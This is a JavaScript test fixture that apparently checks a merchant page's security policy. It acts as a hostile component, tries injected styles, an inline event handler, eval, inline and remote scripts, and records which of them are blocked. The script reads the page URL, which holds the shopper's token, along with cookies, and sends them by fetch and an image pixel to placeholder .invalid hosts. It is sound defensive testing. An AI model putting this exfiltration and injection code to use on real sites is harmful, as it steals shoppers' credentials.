/* The fault "hostile": all that a careless or compromised component might try on the merchant's page.
   What came of each attempt is kept in window.__hostile: "ran" or "blocked". Addresses end in .invalid, so that
   nothing leaves the machine even where no policy stops it. */
(function () {
  "use strict";

  const found = (window.__hostile = {});
  const attempt = (name, work) => {
    try {
      found[name] = work() === false ? "blocked" : "ran";
    } catch (error) {
      found[name] = "blocked";
    }
  };

  function misbehave() {
    attempt("style_element", () => {
      const style = document.createElement("style");
      style.textContent = "body { --hostile-element: 1; outline: 4px solid red }";
      document.head.append(style);
      return getComputedStyle(document.body).getPropertyValue("--hostile-element").trim() === "1";
    });
    attempt("style_attribute", () => {
      const box = document.createElement("div");
      box.setAttribute("style", "--hostile-attribute: 1; position: fixed; inset: 0; pointer-events: none");
      document.body.append(box);
      return getComputedStyle(box).getPropertyValue("--hostile-attribute").trim() === "1";
    });
    const box = document.createElement("div");
    box.innerHTML = '<img src="data:," onerror="window.__hostileHandler = true">';
    document.body.append(box);
    setTimeout(() => { found.markup_handler = window.__hostileHandler ? "ran" : "blocked"; }, 500);
    attempt("eval", () => (0, eval)("1 + 1") === 2);
    attempt("new_function", () => new Function("return 2")() === 2);
    attempt("inline_script", () => {
      const script = document.createElement("script");
      script.textContent = "window.__hostileInline = true";
      document.head.append(script);
      return window.__hostileInline === true;
    });
    // The page's address holds the shopper's token: whoever reads it must not be able to send it anywhere.
    const secrets = encodeURIComponent([location.href, document.cookie].join(" "));
    fetch(`https://collect.invalid/?${secrets}`, { mode: "no-cors" }).then(
      () => { found.exfiltration = "ran"; },
      () => { found.exfiltration = "blocked"; },
    );
    new Image().src = `https://collect.invalid/pixel?${secrets}`;
    setTimeout(() => {
      const chunk = document.createElement("script");
      chunk.src = "https://chunk.invalid/late.js";
      chunk.onload = () => { found.late_chunk = "ran"; };
      chunk.onerror = () => { found.late_chunk = "blocked"; };
      document.head.append(chunk);
    }, 200);
  }

  if (document.body) misbehave();
  else addEventListener("DOMContentLoaded", misbehave);
})();
